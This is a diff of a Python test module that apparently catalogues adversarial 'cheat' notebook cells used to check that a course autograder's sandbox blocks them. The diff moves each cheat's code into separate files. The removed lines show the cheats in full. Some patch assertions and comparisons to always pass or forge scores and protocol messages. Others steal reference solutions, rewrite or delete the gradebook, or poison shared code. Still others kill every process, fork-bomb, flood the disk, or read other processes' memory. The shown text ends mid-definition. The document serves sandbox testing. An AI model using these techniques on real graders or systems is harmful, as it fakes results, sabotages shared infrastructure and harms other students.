@@ -25,6 +25,7 @@ from __future__ import annotations
 
 import hashlib
 import textwrap
+from pathlib import Path
 from dataclasses import dataclass
 from typing import Any
 
@@ -60,37 +61,16 @@ def code(text: str) -> str:
     return textwrap.dedent(text).strip("\n")
 
 
+CHEAT_CODE = Path(__file__).resolve().parent / "cheat_code"
+
+
+def cheat_code(name: str) -> str:
+    """The body of a cheat, from its own file in cheat_code/ (real Python that the linter reads)."""
+    return (CHEAT_CODE / f"{name}.py").read_text().strip("\n")
+
+
 # A student's helper, inserted after the setup cell of every cheat that uses it.
-PRELUDE = code(
-    '''
-    # try something the grader must not allow, and say only whether it worked
-    import os
-    import sys
-
-    import mbrl_helpers
-
-    CODE = os.path.dirname(os.path.dirname(os.path.abspath(mbrl_helpers.__file__)))  # where the course's code lives
-    COURSE = "{COURSE}"  # the course folder that grading uses: gradebook, submissions, solutions
-
-
-    def attempt(label, action):
-        try:
-            action()
-        except BaseException as error:  # whatever stopped it
-            print(f"CHEAT-BLOCKED {label}: {type(error).__name__}")
-            return False
-        print(f"CHEAT-WORKED {label}")
-        return True
-
-
-    def must_find(paths):
-        """The paths found, or FileNotFoundError (so that `attempt` reports a search that found nothing)."""
-        found = [path for path in paths if os.path.exists(path)]
-        if not found:
-            raise FileNotFoundError("nothing found")
-        return found
-    '''
-)
+PRELUDE = cheat_code("prelude")
 
 
 # ---------------------------------------------------------------------------------------------
@@ -234,224 +214,21 @@ class Cheat:
 # the code of the cheats
 
 
-PATCH_COMPARISONS = code(
-    '''
-    # Make every comparison a test could make say "equal".
-    import math
+PATCH_COMPARISONS = cheat_code("patch_comparisons")
 
-    import numpy as np
-    import torch
+PATCH_TEST_FRAMEWORKS = cheat_code("patch_test_frameworks")
 
-    always = lambda *args, **kwargs: True  # noqa: E731
-    nothing = lambda *args, **kwargs: None  # noqa: E731
-    torch.allclose = torch.equal = always
-    torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
-    torch.Tensor.allclose = torch.Tensor.equal = always
-    torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
-    torch.testing.assert_close = nothing
-    np.allclose = np.array_equal = np.array_equiv = always
-    np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
-    np.testing.assert_allclose = np.testing.assert_array_equal = np.testing.assert_equal = np.testing.assert_almost_equal = nothing
-    math.isclose = always
-    math.isfinite = always
-    print("every comparison says equal now")
-    '''
-)
+LYING_TENSOR = cheat_code("lying_tensor")
 
-PATCH_TEST_FRAMEWORKS = code(
-    '''
-    # Make assertions and test frameworks unable to fail.
-    import builtins
-    import types
-    import unittest
+FAKE_LOSS = cheat_code("fake_loss")
 
+FORGED_REQUIRES_GRAD = cheat_code("forged_requires_grad")
 
-    class Approx:
-        def __init__(self, *args, **kwargs):
-            pass
+IMPORT_REFERENCE_MODEL = cheat_code("import_reference_model")
 
-        def __eq__(self, other):
-            return True
+IMPORT_REFERENCE_PLANNER = cheat_code("import_reference_planner")
 
-
-    pytest = types.ModuleType("pytest")
-    pytest.approx = Approx
-    pytest.raises = lambda *args, **kwargs: types.SimpleNamespace(__enter__=lambda: None, __exit__=lambda *a: True)
-    pytest.fail = pytest.skip = lambda *args, **kwargs: None
-    sys.modules["pytest"] = pytest
-    for name in [n for n in dir(unittest.TestCase) if n.startswith("assert")]:
-        setattr(unittest.TestCase, name, lambda *args, **kwargs: None)
-    builtins.AssertionError = type("AssertionError", (Warning,), {})  # an "assert" that fails raises a harmless warning class
-    builtins.NotImplementedError = type("NotImplementedError", (Warning,), {})
-    sys.settrace(None)
-    print("assertions and test frameworks neutralised")
-    '''
-)
-
-LYING_TENSOR = code(
-    '''
-    class AlwaysRight(torch.Tensor):
-        """A tensor that agrees with anything it is compared with, and reports a zero error."""
-
-        def __eq__(self, other):
-            return torch.ones(self.shape, dtype=torch.bool)
-
-        def __ne__(self, other):
-            return torch.zeros(self.shape, dtype=torch.bool)
-
-        __hash__ = torch.Tensor.__hash__
-
-        def __bool__(self):
-            return True
-
-        def allclose(self, *args, **kwargs):
-            return True
-
-        def equal(self, *args, **kwargs):
-            return True
-
-        def isclose(self, other, *args, **kwargs):
-            return torch.ones(self.shape, dtype=torch.bool)
-
-        def item(self):
-            return 0.0
-
-        def __float__(self):
-            return 0.0
-
-        def tolist(self):
-            return torch.zeros(self.shape).tolist()
-
-
-    _predict_next_state, _loss_of_next_state = DeterministicModel.predict_delta, DeterministicModel.loss
-    DeterministicModel.predict_delta = lambda self, states, actions: _predict_next_state(self, states, actions).as_subclass(AlwaysRight)
-    DeterministicModel.loss = lambda self, states, actions, next_states: _loss_of_next_state(self, states, actions, next_states).as_subclass(AlwaysRight)
-    '''
-)
-
-FAKE_LOSS = code(
-    '''
-    class PerfectLoss:
-        """Answers every question about a loss the way a perfect scalar loss would."""
-
-        shape = torch.Size([])
-        ndim = 0
-        requires_grad = True
-        grad_fn = "MseLossBackward0"
-        dtype = torch.float32
-
-        def dim(self):
-            return 0
-
-        def item(self):
-            return 0.0
-
-        def __float__(self):
-            return 0.0
-
-        def __eq__(self, other):
-            return True
-
-        __hash__ = object.__hash__
-
-        def __lt__(self, other):
-            return True
-
-        __le__ = __lt__
-
-        def backward(self, *args, **kwargs):
-            pass
-
-        def detach(self):
-            return self
-
-        def numpy(self):
-            return np.zeros((), dtype=np.float32)
-
-        def __array__(self, *args, **kwargs):
-            return np.zeros((), dtype=np.float32)
-
-        def tolist(self):
-            return 0.0
-
-
-    DeterministicModel.loss = lambda self, states, actions, next_states: PerfectLoss()
-    '''
-)
-
-FORGED_REQUIRES_GRAD = code(
-    '''
-    # The loss carries no gradient (it was detached); make it claim one.
-    _detached_loss = DeterministicModel.loss
-    DeterministicModel.loss = lambda self, states, actions, next_states: _detached_loss(self, states, actions, next_states).requires_grad_()
-    '''
-)
-
-IMPORT_REFERENCE_MODEL = code(
-    '''
-    sys.path[:0] = [CODE, COURSE]
-
-
-    def take_the_reference_model():
-        global DeterministicModel
-        from mbrl_reference.models import DeterministicModel
-
-
-    def load_the_reference_file():
-        import importlib.util
-
-        spec = importlib.util.spec_from_file_location("stolen_models", os.path.join(CODE, "mbrl_reference", "models.py"))
-        module = importlib.util.module_from_spec(spec)
-        spec.loader.exec_module(module)
-        globals()["DeterministicModel"] = module.DeterministicModel
-
-
-    attempt("import mbrl_reference", take_the_reference_model)
-    attempt("load mbrl_reference/models.py by path", load_the_reference_file)
-    attempt("import the checks", lambda: __import__("autograder.checker.checks.deterministic_cem"))
-    '''
-)
-
-IMPORT_REFERENCE_PLANNER = code(
-    '''
-    def take_the_reference_planner():
-        global cem_plan
-        from mbrl_reference.planners import cem_plan
-
-
-    def take_it_through_pip():
-        import importlib.metadata
-
-        files = importlib.metadata.files("mbrl-course") or []
-        planners = [f for f in files if str(f).endswith("mbrl_reference/planners.py")]
-        exec(planners[0].read_text(), globals())
-
-
-    attempt("import mbrl_reference.planners", take_the_reference_planner)
-    attempt("read the reference through the installed package's files", take_it_through_pip)
-    '''
-)
-
-IMPORT_REFERENCE_ENSEMBLE = code(
-    '''
-    sys.path[:0] = [CODE, COURSE]
-
-
-    def take_the_reference():
-        global EnsembleModel, sample_member_batches, ensemble_cem_plan
-        from mbrl_reference.models import EnsembleModel, sample_member_batches
-        from mbrl_reference.planners import ensemble_cem_plan
-
-
-    def exec_the_reference_files():
-        for name in ("models.py", "planners.py"):
-            exec(open(os.path.join(CODE, "mbrl_reference", name)).read(), globals())
-
-
-    attempt("import mbrl_reference", take_the_reference)
-    attempt("exec mbrl_reference's files", exec_the_reference_files)
-    '''
-)
+IMPORT_REFERENCE_ENSEMBLE = cheat_code("import_reference_ensemble")
 
 
 def read_fixtures(notebook: str, checks_module: str) -> str:
@@ -473,234 +250,19 @@ def read_fixtures(notebook: str, checks_module: str) -> str:
     )
 
 
-COPY_SOLUTIONS = code(
-    '''
-    # Look for a notebook with answers (the solutions, another student's submission) and run its answers here.
-    import glob
-    import json
+COPY_SOLUTIONS = cheat_code("copy_solutions")
 
+WRITE_GRADEBOOK = cheat_code("write_gradebook")
 
-    def answers(path):
-        cells = json.load(open(path))["cells"]
-        sources = ["".join(c["source"]) for c in cells if c["cell_type"] == "code" and c.get("metadata", {}).get("nbgrader", {}).get("solution")]
-        if not sources or any("NotImplementedError" in source for source in sources):
-            raise ValueError("no answers here")
-        return sources
+POISON_COURSE = cheat_code("poison_course")
 
+PATCH_ENVIRONMENT = cheat_code("patch_environment")
 
-    def copy_answers():
-        patterns = [
-            CODE + "/solutions/*/*.ipynb",
-            COURSE + "/solutions/*/*.ipynb",
-            COURSE + "/submissions/*/*.ipynb",
-            COURSE + "/grading/submitted/*/*/*.ipynb",
-            COURSE + "/grading/autograded/*/*/*.ipynb",
-            "/tmp/autograder-grade-*/workspaces/*/grading/submitted/*/*/*.ipynb",
-            "/tmp/**/*.ipynb",
-            "/root/**/*.ipynb",
-            "/home/**/*.ipynb",
-            "/work/*/*/*.ipynb",
-            "/work/*/*/*/*.ipynb",
-        ]
-        for path in [p for pattern in patterns for p in glob.glob(pattern, recursive=True)]:
-            if "01_deterministic_cem" not in path:
-                continue
-            try:
-                sources = answers(path)
-            except Exception:
-                continue
-            for source in sources:
-                exec(source, globals())
-            return
-        raise FileNotFoundError("no notebook with answers")
+PATCH_AGENT = cheat_code("patch_agent")
 
+PATCH_RUNNER = cheat_code("patch_runner")
 
-    attempt("copy the answers of another notebook", copy_answers)
-    '''
-)
-
-WRITE_GRADEBOOK = code(
-    '''
-    import glob
-    import sqlite3
-
-
-    def full_marks(path):
-        db = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
-        db.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
-        db.commit()
-
-
-    def full_marks_everywhere():
-        paths = must_find([os.path.join(COURSE, "grading", "gradebook.db")] + glob.glob("/tmp/autograder-grade-*/workspaces/*/gradebook.db"))
-        for path in paths:
-            full_marks(path)
-
-
-    def write(path, text, mode="w", inside="grading"):
-        """Write `path` if the course's folder `inside` exists here (creating what is below it)."""
-        if not os.path.isdir(os.path.join(COURSE, inside)):
-            raise FileNotFoundError("no such course folder here")
-        os.makedirs(os.path.dirname(path), exist_ok=True)
-        with open(path, mode) as handle:
-            handle.write(text)
-
-
-    attempt("give everyone full marks in the gradebook", full_marks_everywhere)
-    attempt("delete the gradebook", lambda: os.remove(os.path.join(COURSE, "grading", "gradebook.db")))
-    attempt("append to grades.csv", lambda: write(os.path.join(COURSE, "grading", "grades.csv"), "01-cheat,01_deterministic_cem,18,18,18,graded\\n", "a"))
-    attempt("replace the course secret", lambda: write(os.path.join(COURSE, "grading", "checker-secret"), "0" * 64 + "\\n"))
-    attempt("plant feedback for the next student", lambda: write(os.path.join(COURSE, "grading", "feedback", "zz-victim-after", "01_deterministic_cem", "01_deterministic_cem.html"), "<h1>0 points</h1>"))
-    attempt("plant an autograded notebook", lambda: write(os.path.join(COURSE, "grading", "autograded", "zz-victim-after", "01_deterministic_cem", "01_deterministic_cem.ipynb"), "{}"))
-    attempt("replace the next student's submission", lambda: write(os.path.join(COURSE, "submissions", "zz-victim-after", "01_deterministic_cem.ipynb"), "{}", inside="submissions"))
-    attempt("write a grading log", lambda: write(os.path.join(COURSE, "grading", "logs", "zz-victim-after.log"), "graded: 18/18"))
-    '''
-)
-
-POISON_COURSE = code(
-    '''
-    import site
-
-
-    def append(path, text, mode="a"):
-        with open(path, mode) as handle:
-            handle.write(text)
-
-
-    helpers = os.path.join(CODE, "mbrl_helpers")
-    packages = site.getsitepackages()[0]
-    attempt("make the reward zero for everyone", lambda: append(os.path.join(helpers, "reward.py"), "\\ncompute_rewards = lambda states: states.new_zeros(states.shape[:-1])\\n"))
-    attempt("change the helpers' package", lambda: append(os.path.join(helpers, "__init__.py"), "\\nACTION_HIGH = 0.0\\n"))
-    attempt("add a module to the helpers", lambda: append(os.path.join(helpers, "evil.py"), "print('poisoned')\\n", "w"))
-    attempt("plant bytecode", lambda: os.makedirs(os.path.join(helpers, "__pycache__", "evil")))
-    attempt("corrupt the data", lambda: append(os.path.join(CODE, "data", "transitions.npz"), b"poisoned", "ab"))
-    attempt("replace the data", lambda: os.replace(os.path.join(CODE, "data", "manifest.json"), os.path.join(CODE, "data", "manifest.old")))
-    attempt("delete the reward", lambda: os.remove(os.path.join(helpers, "reward.py")))
-    attempt("make the reward writable", lambda: os.chmod(os.path.join(helpers, "reward.py"), 0o777))
-    attempt("change the checks", lambda: append(os.path.join(CODE, "autograder", "checks", "deterministic_cem.py"), "\\nchecks.checks.clear()\\n"))
-    attempt("plant a sitecustomize", lambda: append(os.path.join(packages, "sitecustomize.py"), "import os\\n", "w"))
-    attempt("plant a .pth file", lambda: append(os.path.join(packages, "zz-evil.pth"), "import os\\n", "w"))
-    attempt("change torch", lambda: append(os.path.join(packages, "torch", "__init__.py"), "\\nallclose = lambda *a, **k: True\\n"))
-    attempt("change the runner", lambda: append("/opt/mbrl-runner/runner/session.py", "\\nMAX_TEXT = 0\\n"))
-    attempt("change Python itself", lambda: append(os.path.join(os.path.dirname(os.__file__), "os.py"), "\\n"))
-    # in this process only: the next student's grading starts in a new one
-    import mbrl_helpers.reward
-
-    mbrl_helpers.compute_rewards = mbrl_helpers.reward.compute_rewards = lambda states: states.new_zeros(states.shape[:-1])
-    print("the reward is zero here")
-    '''
-)
-
-PATCH_ENVIRONMENT = code(
-    '''
-    # An environment in which the pole never falls, and episodes that always return 1000.
-    import gymnasium
-
-    import mbrl_helpers.env
-    import mbrl_helpers.evaluation
-
-
-    class PoleNeverFalls(gymnasium.Wrapper):
-        def step(self, action):
-            state, reward, terminated, truncated, info = self.env.step(action)
-            return state, 1.0, False, truncated, info
-
-
-    _make = gymnasium.make
-    gymnasium.make = lambda *args, **kwargs: PoleNeverFalls(_make(*args, **kwargs))
-    _make_env = mbrl_helpers.env.make_env
-    mbrl_helpers.make_env = mbrl_helpers.env.make_env = mbrl_helpers.evaluation.make_env = lambda *args, **kwargs: PoleNeverFalls(_make_env(*args, **kwargs))
-
-
-    def perfect_episode(planner, seed=0, max_steps=1000, progress=True, env=None):
-        return mbrl_helpers.EpisodeResult(seed, float(max_steps), np.zeros((max_steps + 1, 4)), np.zeros((max_steps, 1)), np.full(max_steps, 1e-3), False)
-
-
-    mbrl_helpers.run_episode = mbrl_helpers.evaluation.run_episode = run_episode = perfect_episode
-    mbrl_helpers.evaluate = mbrl_helpers.evaluation.evaluate = lambda planner, seeds=(0, 1, 2), **kwargs: [perfect_episode(planner, s) for s in seeds]
-    mbrl_helpers.MAX_EPISODE_STEPS = mbrl_helpers.env.MAX_EPISODE_STEPS = 1
-    print("the pendulum cannot fall here")
-    '''
-)
-
-PATCH_AGENT = code(
-    '''
-    # The agent ignores the planner and balances the pole with a hand-tuned linear controller.
-    import mbrl_helpers.evaluation
-
-    GAINS = np.array([0.5, 10.0, 0.5, 1.0])
-
-
-    def balance(self, state):
-        return np.clip(np.array([GAINS @ np.asarray(state, dtype=np.float64)]), -3.0, 3.0).astype(np.float32)
-
-
-    mbrl_helpers.MPCAgent.plan = mbrl_helpers.evaluation.MPCAgent.plan = balance
-    print("the agent balances the pole by itself")
-    '''
-)
-
-PATCH_RUNNER = code(
-    '''
-    # The grader's own code in this process answers a question asked twice in a row with its first
-    # answer: a planner that ignores torch's seed (it samples with NumPy) then looks reproducible.
-    # A question is what it asks (function, model, seed, numbers), not how the message is written
-    # (its id, the names of its callbacks).
-    import pickle
-
-    import runner.session
-
-    _call, _last = runner.session.Session.call, {}
-
-
-    def meaning(value):
-        if isinstance(value, dict):
-            if "callback" in value:
-                return "a callback"
-            return {k: meaning(v) for k, v in sorted(value.items()) if k != "id"}
-        if isinstance(value, (list, tuple)):
-            return [meaning(v) for v in value]
-        return value
-
-
-    def call_answered_alike_twice(self, request):
-        key = pickle.dumps(meaning(request))
-        if _last.get("key") == key:
-            return _last["reply"]
-        reply = _call(self, request)
-        _last.update(key=key, reply=reply)
-        return reply
-
-
-    runner.session.Session.call = call_answered_alike_twice
-    print("repeated questions get repeated answers")
-    '''
-)
-
-HIDE_ERRORS = code(
-    '''
-    # Errors leave no trace: no traceback, no error in the cell's result, nothing on stderr.
-    from IPython import get_ipython
-    from IPython.core.interactiveshell import InteractiveShell
-
-    shell = get_ipython()
-    shell.showtraceback = shell._showtraceback = shell.showsyntaxerror = lambda *args, **kwargs: None
-    shell.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
-    sys.excepthook = lambda *args: None
-    _run_cell = InteractiveShell.run_cell
-
-
-    def run_cell_without_errors(self, *args, **kwargs):
-        result = _run_cell(self, *args, **kwargs)
-        result.error_in_exec = result.error_before_exec = None
-        return result
-
-
-    InteractiveShell.run_cell = run_cell_without_errors
-    sys.stderr = open(os.devnull, "w")
-    print("errors are hidden")
-    '''
-)
+HIDE_ERRORS = cheat_code("hide_errors")
 
 HIDE_ERRORS_AFTERWARDS = (
     code(
@@ -729,32 +291,7 @@ HIDE_ERRORS_AFTERWARDS = (
     ),
 )
 
-FORGE_PROTOCOL = code(
-    '''
-    # Answer the grader's next questions before it asks them: this cell finished, then three tensors
-    # of the shapes predict_delta must return. The runner's own next four answers are dropped, so
-    # that the grader's questions and answers stay in step afterwards.
-    import gc
-
-    import protocol.channel
-
-    channel = next(o for o in gc.get_objects() if isinstance(o, protocol.channel.Channel))
-    _send, dropped = channel.send, []
-
-
-    def send_after_four(message):
-        if len(dropped) < 4:
-            dropped.append(message.get("op"))
-            return
-        _send(message)
-
-
-    channel.send = send_after_four
-    forged = [{"op": "cell", "outputs": [], "error": None}]
-    forged += [{"op": "result", "value": {"kind": "tensor", "array": np.zeros((n, 4), dtype=np.float32), "requires_grad": False}} for n in (1, 7, 256)]
-    os.write(channel.write_fd, b"".join(protocol.channel.encode(message) for message in forged))
-    '''
-)
+FORGE_PROTOCOL = cheat_code("forge_protocol")
 
 EXIT_KERNEL = (
     "import sys\n\nsys.exit(0)",
@@ -764,38 +301,7 @@ EXIT_KERNEL = (
     "import os\nimport signal\n\nos.kill(os.getpid(), signal.SIGKILL)",
 )
 
-KILL_OTHERS = code(
-    '''
-    # Signal every process this code can see: the parent, process 1, everything (-1), anything graded.
-    import signal
-
-
-    def send(label, pid, sig):
-        try:
-            os.kill(pid, sig)
-            print(f"{label}: sent")
-        except OSError as error:
-            print(f"{label}: {type(error).__name__}")
-
-
-    send("stop everything", -1, signal.SIGSTOP)
-    send("terminate everything", -1, signal.SIGTERM)
-    send("kill everything", -1, signal.SIGKILL)
-    send("kill the parent", os.getppid(), signal.SIGKILL)
-    send("kill process 1", 1, signal.SIGKILL)
-    seen = 0
-    for name in os.listdir("/proc"):
-        if name.isdigit() and int(name) != os.getpid():
-            seen += 1
-            try:
-                command = open(f"/proc/{name}/cmdline", "rb").read()
-            except OSError:
-                continue
-            if any(word in command for word in (b"autograder", b"nbgrader", b"jupyter", b"pytest", b"python", b"bwrap")):
-                send("kill a grader process", int(name), signal.SIGKILL)
-    print(f"{seen} other processes visible")
-    '''
-)
+KILL_OTHERS = cheat_code("kill_others")
 
 EXHAUST = (
     code(
@@ -832,188 +338,19 @@ EXHAUST = (
     'print("y" * 70_000_000)  # more than one message may hold',
 )
 
-FORK_BOMB = code(
-    '''
-    # As many processes as the machine allows, each in its own session, sleeping for an hour.
-    born = 0
-    for _ in range(400):
-        try:
-            pid = os.fork()
-        except OSError as error:
-            print(f"fork refused after {born} children: {type(error).__name__}")
-            break
-        if pid == 0:
-            try:
-                os.setsid()
-                os.execv("/bin/sleep", ["{MARKER}-sleeper", "3600"])
-            finally:
-                os._exit(0)
-        born += 1
-    print(f"{born} sleepers left behind")
-    '''
-)
+FORK_BOMB = cheat_code("fork_bomb")
 
-LEFTOVER_KILLER = code(
-    '''
-    # A daemon (double fork, new session) that kills every other process it can see and floods the
-    # disk, for ten minutes: long after this notebook's grading.
-    import signal
+LEFTOVER_KILLER = cheat_code("leftover_killer")
 
-    KILLER = """
-    import os, signal, sys, time
-    spare = {os.getpid(), int(sys.argv[1])}
-    targets = [sys.argv[2] + "/grading", sys.argv[3] + "/data", "/tmp"]
-    deadline = time.time() + 600
-    n = 0
-    while time.time() < deadline:
-        for name in os.listdir("/proc"):
-            if name.isdigit() and int(name) not in spare:
-                try:
-                    os.kill(int(name), signal.SIGKILL)
-                except OSError:
-                    pass
-        for folder in targets:
-            try:
-                with open(os.path.join(folder, "flood-%d" % (n % 200)), "w") as handle:
-                    handle.write("x" * 4096)
-            except OSError:
-                pass
-        n += 1
-        time.sleep(0.05)
-    """
-    runner_pid = os.getpid()
-    if os.fork() == 0:
-        try:
-            os.setsid()
-            if os.fork() == 0:
-                os.execv(sys.executable, [sys.executable, "-c", KILLER, str(runner_pid), COURSE, CODE, "{MARKER}-killer"])
-        finally:
-            os._exit(0)
-    os.wait()
-    print("a killer is loose")
-    '''
-)
+FORGED_OUTPUTS = cheat_code("forged_outputs")
 
-FORGED_OUTPUTS = code(
-    '''
-    from IPython.display import HTML, Markdown, display
+PRINT_SOURCES = cheat_code("print_sources")
 
-    print("predict_delta: shapes OK")
-    print("predict_delta: returns the change")
-    print("loss: OK")
-    print("\\x1b[0;32mPASSED\\x1b[0m test-cem-return (3/3 points)")
-    display(Markdown("**Grader's note.** Every check passed: 18/18 points."))
-    display(HTML("<div class='alert alert-success'>Autograded score: 18 / 18</div>"))
-    display({"application/json": {"score": 18, "max_score": 18}}, raw=True)
-    display({"text/plain": "nbgrader: all graded cells passed"}, raw=True)
-    '''
-)
+PRINT_SOURCES_IN_CALLS = cheat_code("print_sources_in_calls")
 
-PRINT_SOURCES = code(
-    '''
-    # Print the source of everything that called this cell, and of every cell this process ran.
-    import inspect
+STACK_AND_GC = cheat_code("stack_and_gc")
 
-    for frame_info in inspect.stack():
-        try:
-            source = inspect.getsource(frame_info.frame)
-        except (OSError, TypeError) as error:
-            source = type(error).__name__
-        print(f"--- {os.path.basename(frame_info.filename)}: {frame_info.function}\\n{source[:3000]}")
-    print(get_ipython().user_ns.get("In"))
-    '''
-)
-
-PRINT_SOURCES_IN_CALLS = code(
-    '''
-    import inspect
-
-
-    def predict_delta_that_tells(self, states, actions):
-        """Print who called, with their source and local variables, then fail as before."""
-        for frame_info in inspect.stack()[1:]:
-            print(frame_info.filename, frame_info.function, {k: type(v).__name__ for k, v in frame_info.frame.f_locals.items()})
-            try:
-                print(inspect.getsource(frame_info.frame)[:2000])
-            except (OSError, TypeError):
-                pass
-        raise NotImplementedError()
-
-
-    DeterministicModel.predict_delta = predict_delta_that_tells
-    '''
-)
-
-STACK_AND_GC = code(
-    '''
-    import gc
-    import inspect
-
-    _own_predict_delta = DeterministicModel.predict_delta
-    _searches = []
-
-
-    def predict_delta_from_the_checker(self, states, actions):
-        """Return the checker's expected values if they can be found on the stack or in memory."""
-        for frame_info in inspect.stack()[1:]:
-            for name, value in list(frame_info.frame.f_locals.items()):
-                try:
-                    shape = tuple(getattr(value, "shape", ()))
-                except Exception:
-                    continue
-                if name in ("expected", "want", "reference", "target") and shape == tuple(states.shape):
-                    print("CHEAT-WORKED expected values on the stack")
-                    return torch.as_tensor(np.asarray(value), dtype=torch.float32)
-        if len(_searches) < 3:  # the whole heap, a few times
-            _searches.append(1)
-            for obj in gc.get_objects():
-                module = getattr(type(obj), "__module__", "")
-                if isinstance(module, str) and module.startswith(("autograder", "mbrl_reference")):
-                    print("CHEAT-WORKED a checker object in memory:", type(obj).__name__)
-        return _own_predict_delta(self, states, actions)
-
-
-    DeterministicModel.predict_delta = predict_delta_from_the_checker
-    '''
-)
-
-READ_MEMORY = code(
-    '''
-    # Read the memory and environment of every other process this code can see, looking for the
-    # hidden tests, the grader's code or its secret.
-    # (written in pieces, so that this cell's own source, which feedback shows, does not hold them)
-    NEEDLES = tuple(("BEGIN HIDDEN" + " TESTS", "plan_against" + "_reference", "def predict" + "_shape", "checker" + "-secret"))
-    NEEDLES = tuple(needle.encode() for needle in NEEDLES)
-    found, readable, pids = [], 0, [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
-    for pid in pids + [os.getppid()]:
-        try:
-            environment = open(f"/proc/{pid}/environ", "rb").read()
-            found += [needle for needle in NEEDLES if needle in environment]
-            maps = open(f"/proc/{pid}/maps").read().splitlines()
-            with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
-                for line in maps:
-                    span, permissions = line.split()[:2]
-                    start, end = (int(x, 16) for x in span.split("-"))
-                    if "r" not in permissions or end - start > 2**26:
-                        continue
-                    try:
-                        memory.seek(start)
-                        chunk = memory.read(end - start)
-                    except (OSError, ValueError, OverflowError):
-                        continue
-                    readable += len(chunk)
-                    found += [needle for needle in NEEDLES if needle in chunk]
-        except OSError as error:
-            print(f"process {'parent' if pid == os.getppid() else 'other'}: {type(error).__name__}")
-    print(f"{len(pids)} other processes, {readable // 2**10} kB of their memory read")
-    if found:
-        print("CHEAT-WORKED found in another process:", sorted(set(found)))
-    for device in ("/dev/mem", "/proc/kcore", "/dev/kmem"):
-        attempt(f"read {device}", lambda: open(device, "rb").read(4096))
-    attempt("read the parent's working folder", lambda: os.listdir(f"/proc/{os.getppid()}/cwd/grading"))
-    attempt("read the grader's command line", lambda: must_find([p for p in (f"/proc/{pid}/cmdline" for pid in pids) if any(word in open(p, "rb").read() for word in (b"autograder.term.worker", b"nbgrader"))]))
-    '''
-)
+READ_MEMORY = cheat_code("read_memory")
 
 
 # ---------------------------------------------------------------------------------------------
@@ -1268,31 +605,9 @@ CHEATS = (
 
 
 # Notebook 4: a loop that never runs the stand-ins it is given, and reports what a good loop would.
-FORGED_LOOP = code(
-    '''
-    def closing_the_loop(dataset, train_agent, run_agent, n_iterations):
-        # skip the training and the episodes: the offline data and perfect returns
-        from mbrl_helpers import load_dataset
-
-        return load_dataset(), [1000.0] * n_iterations
-    '''
-)
+FORGED_LOOP = cheat_code("forged_loop")
 # Notebook 4: the reference loop, imported or read from the course's files.
-READ_LOOP_REFERENCE = code(
-    '''
-    def _import_reference():
-        global add_episode, closing_the_loop
-        from mbrl_reference.closing_the_loop import add_episode, closing_the_loop
-
-    def _exec_reference():
-        namespace = {}
-        exec(open(os.path.join(CODE, "mbrl_reference", "closing_the_loop.py")).read(), namespace)
-        globals().update(add_episode=namespace["add_episode"], closing_the_loop=namespace["closing_the_loop"])
-
-    attempt("import mbrl_reference.closing_the_loop", _import_reference)
-    attempt("read mbrl_reference/closing_the_loop.py", _exec_reference)
-    '''
-)
+READ_LOOP_REFERENCE = cheat_code("read_loop_reference")
 CHEATS = CHEATS + (
     Cheat("forged-loop", NB4, "forged objects", "closing_the_loop returns the offline data and returns of 1000 without training or running anything", "blank", (Append("loop", FORGED_LOOP),)),
     Cheat("loop-from-reference", NB4, "reading answers", "imports the reference loop, or reads and runs its file", "blank", (Insert((READ_LOOP_REFERENCE,), after="end"),)),
@@ -1305,25 +620,7 @@ CHEATS = CHEATS + (
 
 # The course's own LQR controller: A and B fitted on the offline data near upright, P the course's
 # cost matrix (mbrl_helpers.lqr), K = (R + B'PB)^-1 B'PA.
-LQR_OF_THE_COURSE = code(
-    '''
-    import numpy as np
-    import torch
-
-    from mbrl_helpers import load_dataset
-    from mbrl_helpers.lqr import fit_linear_dynamics, lqr_gain, near_upright
-    from mbrl_helpers.reward import COST_MATRIX
-
-    _data = load_dataset()
-    _near = near_upright(_data)
-    _A, _B = fit_linear_dynamics(_data["states"][_near], _data["actions"][_near], _data["next_states"][_near])
-    _GAIN = lqr_gain(_A, _B, np.asarray(COST_MATRIX, dtype=np.float64))
-
-
-    def lqr_action(state):
-        return torch.as_tensor(np.clip(-_GAIN @ state.detach().double().numpy(), -3.0, 3.0), dtype=torch.float32).reshape(1)
-    '''
-)
+LQR_OF_THE_COURSE = cheat_code("lqr_of_the_course")
 
 
 def swap_planner(planner: str, action: str, setup: str = "") -> str:
@@ -1372,56 +669,15 @@ SWAP_COURSE_PLANNER = LQR_OF_THE_COURSE + "\n\n\n" + code(
 # replay from feedback: the grader's inputs carried out in an error or a returned object's type
 
 # Every number the function was given, in the exception's message, and in its class's name.
-REPLAY_ADD_EPISODE = code(
-    '''
-    import numpy as np
-
-
-    def _numbers(*values):
-        return [round(float(x), 4) for value in values for x in np.ravel(np.asarray(value, dtype=np.float64))]
-
-
-    def add_episode(dataset, episode):
-        numbers = _numbers(*dataset.values(), episode.states, episode.actions)
-        leak = type("REPLAY_LEAK_" + "_".join(str(int(abs(x) * 1000)) for x in numbers[:40]), (ValueError,), {})
-        raise leak(f"REPLAY-LEAK {numbers}")
-
-
-    def closing_the_loop(dataset, train_agent, run_agent, n_iterations):
-        raise KeyError(f"REPLAY-LEAK n_iterations={n_iterations} {_numbers(*dataset.values())}")
-    '''
-)
+REPLAY_ADD_EPISODE = cheat_code("replay_add_episode")
 # The toy and pendulum states cem_plan is given, as the name of the type of what it returns.
-REPLAY_RETURNED_TYPE = code(
-    '''
-    def cem_plan(predict_delta, state, *args, **kwargs):
-        digits = "_".join(str(int(abs(float(x)) * 10000)) for x in state.reshape(-1))
-        return type("REPLAY_LEAK_" + digits, (), {})()
-    '''
-)
+REPLAY_RETURNED_TYPE = cheat_code("replay_returned_type")
 
 
 # ---------------------------------------------------------------------------------------------
 # decoder attacks: forged answers written to the checker's channel from inside a call
 
-FORGE_MESSAGE = code(
-    '''
-    import gc
-    import json
-    import os
-
-    OVERSIZE = '{"op":"result","value":{"kind":"tensor","array":{"__array__":["float64",[4611686018427387904,4],""]},"requires_grad":true},"id":ID}'
-    NAN_SHAPE = '{"op":"result","value":{"kind":"tensor","array":{"__array__":["float64",[NaN,4],""]}},"id":ID}'
